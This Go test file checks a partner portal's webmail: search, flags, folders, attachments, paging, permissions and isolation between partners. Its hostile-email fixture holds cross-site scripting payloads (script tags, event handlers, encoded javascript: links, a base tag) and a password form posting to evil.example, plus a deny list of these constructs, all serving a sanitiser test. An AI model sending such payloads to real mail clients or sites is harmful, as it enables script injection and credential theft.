package portal_test

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/ferryhq/ferry/store"
	"github.com/ferryhq/ferry/store/storetest"
)

const hostileHTML = `From: Mallory <mallory@evil.example>
To: acme@ferry.test
Subject: Your invoice is ready
Date: Sun, 06 Dec 2026 10:00:00 +0000
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><base href="https://evil.example/"><style>body{background:url(javascript:alert(1))}</style>
<script>window.pwned = 1</script></head>
<body onload="window.pwned = 2">
<p id="greeting" style="width: expression(window.pwned = 3)">Dear partner, <b>please</b> pay.</p>
<a href="javascript:window.pwned=4" id="jslink">Pay now</a>
<a href="https://pay.example/ok">Real link</a>
<img src="x" onerror="window.pwned = 5">
<img src="http://tracker.example/pixel.gif?who=acme" alt="tracker">
<iframe src="https://evil.example/frame"></iframe>
<svg><script>window.pwned = 6</script></svg>
<form action="https://evil.example/steal"><input name="password"></form>
<div style="background-image: url('javascript:window.pwned=7')">styled</div>
<a href="JaVaScRiPt&#58;window.pwned=8">encoded</a>
</body></html>
`

const plainMail = `From: Bob Buyer <bob@acme.example>
To: acme@ferry.test
Subject: Order 4711 confirmed
Date: Sun, 06 Dec 2026 09:00:00 +0000
Content-Type: text/plain; charset=utf-8

Hello,
the order <b>4711</b> ships on Tuesday; reference WIDGET-BLUE.
`

const attachmentMail = "From: Carol <carol@acme.example>\r\nTo: acme@ferry.test\r\nSubject: Price list\r\n" +
	"Date: Sun, 06 Dec 2026 11:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n" +
	"--XX\r\nContent-Type: text/plain\r\n\r\nThe price list is attached.\r\n" +
	"--XX\r\nContent-Type: text/csv; name=\"prices.csv\"\r\nContent-Disposition: attachment; filename=\"prices.csv\"\r\n" +
	"Content-Transfer-Encoding: base64\r\n\r\naXRlbTtwcmljZQp3aWRnZXQ7NDIK\r\n--XX--\r\n"

func (e *env) deliver(slug, raw string) string {
	e.t.Helper()
	d, err := e.mail.Deliver(context.Background(), slug, []byte(strings.ReplaceAll(strings.ReplaceAll(raw, "\r\n", "\n"), "\n", "\r\n")))
	if err != nil {
		e.t.Fatal(err)
	}
	_ = d
	p, _ := e.svc.Partner(context.Background(), slug)
	msgs, err := e.mail.MessagePage(context.Background(), p.ID, "INBOX", 0, 1)
	if err != nil || len(msgs) == 0 {
		e.t.Fatalf("delivered message: %v", err)
	}
	return msgs[0].ID
}

func (e *env) flags(slug, id string) []string {
	e.t.Helper()
	p, _ := e.svc.Partner(context.Background(), slug)
	m, err := e.st.MailMessageByID(context.Background(), p.ID, id)
	if err != nil {
		e.t.Fatal(err)
	}
	return m.FlagList()
}

// The hostile parts of a message never reach the page: no script, event
// attribute, javascript: link, style, <base>, frame or form; remote images
// wait until the reader allows them.
func TestMailHostileHTMLInert(t *testing.T) {
	e := newEnv(t, sqlite())
	e.partner("acme", "alice", "", "")
	id := e.deliver("acme", hostileHTML)
	c := e.client()
	c.mustSignIn("alice")
	r := c.get("/portal/mail/message/" + id)
	if r.status != http.StatusOK {
		t.Fatalf("message: %d %s", r.status, r.body)
	}
	body := r.body[strings.Index(r.body, `id="body"`):]
	for _, bad := range []string{"<script", "onload", "onerror", "javascript:", "JaVaScRiPt", "expression(", "<base", "<style", "style=",
		"<iframe", "<form", "<svg", "tracker.example", "pwned"} {
		if strings.Contains(strings.ToLower(body), strings.ToLower(bad)) {
			t.Errorf("the message page carries %q:\n%s", bad, body)
		}
	}
	mustContain(t, body, "<b>please</b>", `href="https://pay.example/ok"`, `rel="nofollow noreferrer noopener"`)
	mustContain(t, r.body, `id="images-blocked"`)
	if csp := r.header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "img-src 'self' data: https:") {
		t.Errorf("CSP: %s", csp)
	}
	// The reader allows the pictures: the remote image comes back, and
	// only images may come from elsewhere.
	r = c.get("/portal/mail/message/" + id + "?images=1")
	mustContain(t, r.body, `src="http://tracker.example/pixel.gif?who=acme"`)
	if strings.Contains(r.body, `id="images-blocked"`) || strings.Contains(r.body, "<script>window") {
		t.Fatalf("with images:\n%s", r.body)
	}
	if csp := r.header.Get("Content-Security-Policy"); !strings.Contains(csp, "img-src 'self' data: https: http:") || !strings.Contains(csp, "script-src 'self'") {
		t.Errorf("CSP with images: %s", csp)
	}
}

func TestMail(t *testing.T) {
	for _, b := range storetest.Backends() {
		t.Run(b.Name, func(t *testing.T) {
			e := newEnv(t, b)
			e.partner("acme", "alice", "", "")
			e.partner("acme", "nomail", "list,download", "")
			e.partner("globex", "gina", "", "")
			plain := e.deliver("acme", plainMail)
			att := e.deliver("acme", attachmentMail)
			theirs := e.deliver("globex", plainMail)
			c := e.client()
			c.mustSignIn("alice")

			// Folders with unread counts, the list.
			r := c.get("/portal/mail/")
			if r.status != http.StatusOK {
				t.Fatalf("mail: %d %s", r.status, r.body)
			}
			mustContain(t, r.body, `aria-label="2 unread"`, "Order 4711 confirmed", "Price list", `class="unread"`)
			// Search reads the bodies, as IMAP SEARCH TEXT does.
			r = c.get("/portal/mail/?folder=INBOX&q=widget-blue")
			mustContain(t, r.body, "Order 4711 confirmed")
			if strings.Contains(r.body, "Price list") {
				t.Fatal("search shows a message that does not match")
			}
			if r := c.get("/portal/mail/?folder=INBOX&q=no-such-words"); !strings.Contains(r.body, `id="no-mail"`) {
				t.Fatal("empty search")
			}

			// Plain text is shown as text, and reading marks it read.
			r = c.get("/portal/mail/message/" + plain)
			mustContain(t, r.body, `<pre class="body plain" id="body">`, "the order &lt;b&gt;4711&lt;/b&gt; ships")
			if f := e.flags("acme", plain); !strings.Contains(strings.Join(f, " "), `\Seen`) {
				t.Fatalf("flags after reading: %v", f)
			}
			token := csrfOf(t, r.body)
			post := func(path string, form url.Values) resp {
				t.Helper()
				form.Set("csrf", token)
				return c.postForm(path, form)
			}
			if r := post("/portal/mail/message/"+plain+"/flag", url.Values{"set": {"unseen"}}); r.status != http.StatusSeeOther {
				t.Fatalf("mark unread: %d %s", r.status, r.body)
			}
			if r := post("/portal/mail/message/"+plain+"/flag", url.Values{"set": {"flagged"}}); r.status != http.StatusSeeOther {
				t.Fatalf("flag: %d", r.status)
			}
			if f := strings.Join(e.flags("acme", plain), " "); f != `\Flagged` {
				t.Fatalf("flags: %q", f)
			}

			// Attachments download as they were sent.
			r = c.get("/portal/mail/message/" + att)
			m := regexp.MustCompile(`href="(/portal/mail/message/[^"]+/part/\d+)" download>prices.csv`).FindStringSubmatch(r.body)
			if m == nil {
				t.Fatalf("no attachment link:\n%s", r.body)
			}
			a := c.get(m[1])
			if a.status != 200 || a.body != "item;price\nwidget;42\n" || !strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment") {
				t.Fatalf("attachment: %d %q %v", a.status, a.body, a.header)
			}

			// Folders: create, move a message into it, rename, delete.
			if r := post("/portal/mail/folders/create", url.Values{"name": {"Orders"}}); r.status != http.StatusSeeOther {
				t.Fatalf("create folder: %d %s", r.status, r.body)
			}
			if r := post("/portal/mail/message/"+plain+"/move", url.Values{"to": {"Orders"}}); r.status != http.StatusSeeOther {
				t.Fatalf("move: %d %s", r.status, r.body)
			}
			mustContain(t, c.get("/portal/mail/?folder=Orders").body, "Order 4711 confirmed")
			if r := post("/portal/mail/folders/rename", url.Values{"folder": {"Orders"}, "to": {"Orders 2026"}}); r.status != http.StatusSeeOther {
				t.Fatalf("rename folder: %d %s", r.status, r.body)
			}
			mustContain(t, c.get("/portal/mail/?folder="+url.QueryEscape("Orders 2026")).body, "Order 4711 confirmed")
			if r := post("/portal/mail/folders/delete", url.Values{"folder": {"INBOX"}}); r.status != http.StatusBadRequest {
				t.Fatalf("delete INBOX: %d", r.status)
			}
			if r := post("/portal/mail/message/"+att+"/delete", url.Values{}); r.status != http.StatusSeeOther {
				t.Fatalf("delete message: %d", r.status)
			}
			if r := c.get("/portal/mail/message/" + att); r.status != http.StatusNotFound {
				t.Fatalf("deleted message: %d", r.status)
			}
			if r := post("/portal/mail/folders/delete", url.Values{"folder": {"Orders 2026"}}); r.status != http.StatusSeeOther {
				t.Fatalf("delete folder: %d %s", r.status, r.body)
			}

			// Another partner's message ID is no message.
			if r := c.get("/portal/mail/message/" + theirs); r.status != http.StatusNotFound {
				t.Fatalf("cross-partner read: %d", r.status)
			}
			for _, p := range []string{"/flag", "/move", "/delete"} {
				if r := post("/portal/mail/message/"+theirs+p, url.Values{"set": {"seen"}, "to": {"INBOX"}}); r.status != http.StatusNotFound {
					t.Errorf("cross-partner %s: %d", p, r.status)
				}
			}
			if f := e.flags("globex", theirs); len(f) != 0 {
				t.Fatalf("globex's message changed: %v", f)
			}
			if r := c.get(fmt.Sprintf("/portal/mail/message/%s/part/0", theirs)); r.status != http.StatusNotFound {
				t.Fatalf("cross-partner attachment: %d", r.status)
			}

			// Without the mail permission there is no mailbox.
			n := e.client()
			n.mustSignIn("nomail")
			if r := n.get("/portal/mail/"); r.status != http.StatusForbidden {
				t.Fatalf("no mail permission: %d", r.status)
			}
			if strings.Contains(n.get("/portal/files/").body, `href="/portal/mail/"`) {
				t.Fatal("the mail link shows without the permission")
			}
		})
	}
}

// A folder of more messages than a page is paged, newest first.
func TestMailPaging(t *testing.T) {
	e := newEnv(t, sqlite())
	e.partner("acme", "alice", "", "")
	for i := 1; i <= 55; i++ {
		e.deliver("acme", strings.Replace(plainMail, "Subject: Order 4711 confirmed", fmt.Sprintf("Subject: Message number %03d", i), 1))
	}
	c := e.client()
	c.mustSignIn("alice")
	for _, path := range []string{"/portal/mail/", "/portal/mail/?folder=INBOX&q=widget-blue"} {
		r := c.get(path)
		if n := strings.Count(r.body, "Message number"); n != 50 || !strings.Contains(r.body, "Message number 055") || strings.Contains(r.body, "Message number 005") {
			t.Fatalf("%s first page: %d messages", path, n)
		}
		m := regexp.MustCompile(`href="([^"]+)" id="older"`).FindStringSubmatch(r.body)
		if m == nil {
			t.Fatalf("%s: no older link", path)
		}
		r = c.get(strings.ReplaceAll(m[1], "&amp;", "&"))
		if n := strings.Count(r.body, "Message number"); n != 5 || !strings.Contains(r.body, "Message number 001") || strings.Contains(r.body, `id="older"`) {
			t.Fatalf("%s second page: %d messages\n%s", path, n, r.body)
		}
	}
	_ = store.MailInbox
}
